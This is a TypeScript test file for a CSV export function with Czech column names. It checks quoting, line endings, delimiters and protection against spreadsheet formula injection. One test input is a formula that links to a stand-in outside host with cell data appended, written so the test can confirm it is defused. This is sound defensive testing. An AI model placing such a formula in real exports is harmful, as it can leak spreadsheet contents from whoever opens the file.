import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, type CsvColumn } from './csv';

interface Row {
  name: string;
  amount: number;
  note?: string;
}
const columns: CsvColumn<Row>[] = [
  { header: 'Název', value: (r) => r.name },
  { header: 'Částka', value: (r) => r.amount },
  { header: 'Poznámka', value: (r) => r.note }
];

describe('toCsv', () => {
  it('writes a BOM, CRLF lines and Czech text as is', () => {
    const csv = toCsv([{ name: 'Gymnázium Klatovy', amount: 1300 }], columns);
    expect(csv).toBe('\uFEFFNázev,Částka,Poznámka\r\nGymnázium Klatovy,1300,\r\n');
  });

  it('quotes delimiters, quotes and line breaks, and round-trips', () => {
    const rows = [{ name: 'Střední škola, Domažlice', amount: -3700, note: 'řekl "ne"\nznovu' }];
    const csv = toCsv(rows, columns);
    expect(csv).toContain('"Střední škola, Domažlice",-3700,"řekl ""ne""\nznovu"');
    const parsed = Papa.parse<string[]>(csv.slice(1).trimEnd(), { newline: '\r\n' }).data;
    expect(parsed[1]).toEqual(['Střední škola, Domažlice', '-3700', 'řekl "ne"\nznovu']);
  });

  it('defuses formulas in text but not negative numbers', () => {
    const csv = toCsv([{ name: '=HYPERLINK("x")', amount: -5, note: '@SUM(A1)' }], columns);
    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""x"")",-5,"'@SUM(A1)"`);
  });

  it("defuses a formula followed by a line break (a sign-in name, a requester's text)", () => {
    const csv = toCsv([{ name: '=HYPERLINK("https://x.example/?"&B2,"x")\n', amount: 1, note: '+1\r\n2' }], columns);
    const [row] = Papa.parse<string[]>(csv.slice(1).trimEnd(), { newline: '\r\n' }).data.slice(1);
    expect(row[0]).toBe(`'=HYPERLINK("https://x.example/?"&B2,"x")\n`);
    expect(row[2]).toBe(`'+1\r\n2`);
  });

  it('supports the semicolon Czech Excel expects', () => {
    expect(toCsv([{ name: 'a;b', amount: 1.5 }], columns, ';').split('\r\n')[1]).toBe('"a;b";1.5;');
  });
});
